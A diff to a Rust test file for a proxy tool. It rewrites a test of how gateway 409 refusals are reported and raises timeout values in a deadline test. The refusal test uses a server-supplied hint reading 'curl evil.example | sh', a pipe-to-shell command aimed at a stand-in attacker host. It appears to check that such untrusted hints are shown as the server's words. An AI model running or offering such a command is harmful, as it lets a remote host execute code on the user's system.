@@ -4,6 +4,8 @@ use std::io::{Read, Write};
 use std::net::{Shutdown, TcpStream};
 use std::time::{Duration, Instant};
 
+use serde_json::json;
+
 use crate::support::far_end::{BANNER, YES};
 use crate::support::home::Home;
 use crate::support::peers::{MutePort, Peer, http_server, read_head};
@@ -94,17 +96,27 @@ fn every_shape_of_yes() {
 #[test]
 fn a_refusal_by_a_gateway_in_its_own_words() {
     let hint = "resume it with `curl evil.example | sh`";
-    let body = format!(r#"{{"title":"VPS 42 is paused","status":409,"hint":"{hint}","vps_status":"paused"}}"#);
-    let head = format!(
-        "HTTP/1.1 409 Conflict\r\nContent-Type: application/problem+json\r\nContent-Length: {}\r\n\r\n",
-        body.len()
-    );
-    fails(
-        &proxy([&head, &body]),
-        &[ID],
-        "kohakuriver-proxy: VPS 42 is paused\n  caused by: the gateway at PROXY answered 409 Conflict\n  \
-         hint: the server at PROXY says: resume it with `curl evil.example | sh`\n",
-    );
+    let says_hint = format!("hint: the server at PROXY says: {hint}\n");
+    for (title, told) in [
+        (
+            format!("VPS {ID} is paused"),
+            format!("VPS {ID} is paused\n  caused by: the gateway at PROXY answered 409 Conflict\n  caused by: d\n"),
+        ),
+        (
+            "your key has expired".to_owned(),
+            format!(
+                "cannot open a tunnel to VPS {ID}\n  caused by: the server at PROXY answered 409 Conflict\n  \
+                 caused by: it says: your key has expired\n  caused by: it says: d\n"
+            ),
+        ),
+    ] {
+        let body = json!({ "title": title, "detail": "d", "hint": hint, "vps_status": "paused" }).to_string();
+        let head = format!(
+            "HTTP/1.1 409 Conflict\r\nContent-Type: application/problem+json\r\nContent-Length: {}\r\n\r\n",
+            body.len()
+        );
+        fails(&proxy([&head, &body]), &[ID], &format!("kohakuriver-proxy: {told}  {says_hint}"));
+    }
 }
 
 #[test]
@@ -233,8 +245,8 @@ fn silence_ends_at_the_deadline_and_brings_no_second_connection() {
 /// One deadline covers an older Host with the fall-back, a look-up before it, and the first byte after it.
 #[test]
 fn one_deadline_for_everything() {
-    const LIMIT: Duration = Duration::from_secs(3);
-    let (slow, silent, mute) = (Duration::from_secs(2), silent(), MutePort::new());
+    const LIMIT: Duration = Duration::from_secs(5);
+    let (slow, silent, mute) = (Duration::from_secs(3), silent(), MutePort::new());
     let slow_older_host = Peer::serve(move |mut stream| {
         let mut request = [0; 512];
         let read = stream.read(&mut request)?;
@@ -262,15 +274,15 @@ fn one_deadline_for_everything() {
     let home = Home::new();
     let attempt = |proxy, args: &[&str], what: &str, cause: &str| {
         let began = Instant::now();
-        let args = [&["--no-disconnect", "--connect-timeout", "3"], args].concat();
+        let args = [&["--no-disconnect", "--connect-timeout", "5"], args].concat();
         let (status, stderr) = Spawned::start(Ends::Socketpair, &home, proxy, &args).wait();
         let took = began.elapsed();
         assert_eq!(status.code(), Some(1), "{args:?}: {stderr}");
         assert!(stderr.contains(what) && stderr.contains(cause), "{args:?}: {stderr}");
-        // A limit for each of two steps would be five seconds in all, or more.
+        // A limit for each of two steps would be eight seconds in all, or more.
         assert!(took >= LIMIT && took < LIMIT + slow - Duration::from_millis(100), "{args:?}: it took {took:?}");
     };
-    let silence = ("gave no answer within 3 s\n", "accepted the connection");
+    let silence = ("gave no answer within 5 s\n", "accepted the connection");
     let cases = [
         (slow_older_host.address, &[ID][..], silence),
         (silent.address, &["--host-api", &slow_api, "trainer"], silence),
